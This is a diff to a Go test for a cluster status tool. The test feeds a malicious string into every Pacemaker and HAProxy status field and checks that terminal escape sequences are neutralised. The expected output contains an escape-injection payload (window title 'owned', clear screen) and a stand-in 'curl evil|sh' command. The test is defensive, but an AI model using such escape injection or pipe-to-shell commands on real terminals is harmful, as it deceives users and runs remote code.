@@ -22,7 +22,7 @@ func TestATerminalSeesNothingButText(t *testing.T) {
 	sys, out, errs := testSystem(t, crmtest.New("lb-1"))
 	sys.colour = true
 	sys.showStatus(&status.Report{Pacemaker: status.Pacemaker{Source: status.Source{Available: true},
-		Nodes: []status.Node{{Name: evil, Is: []string{evil}}}},
+		Nodes: []status.Node{{Name: evil, Is: []status.NodeIs{evil}}}},
 		HAProxy:  []status.HAProxy{{Node: "lb-1", Resource: "haproxy", Is: "failed", Reason: evil}},
 		Others:   []status.Other{{Resource: evil, Agent: evil, Is: evil, Node: evil, Reason: evil}},
 		Failures: []status.Failure{{Task: evil, Resource: evil, Node: evil, Meaning: evil, Reason: evil}},
@@ -52,6 +52,8 @@ func TestATerminalSeesNothingButText(t *testing.T) {
 		"hawser: x?]0;owned??[2J?2J\nhawser:   ?[32m$ curl evil|sh?[0m?\n", errs.String())
 
 	out.Reset()
-	require.NoError(t, sys.printJSON(doctor.Report{Findings: []doctor.Finding{{What: evil}}}))
+	sys.json = true
+	sys.reports(doctor.Report{Findings: []doctor.Finding{{What: evil}}})
+	sys.tell(nil)
 	require.Contains(t, out.String(), `\u001b[2J`, "JSON says what is")
 }
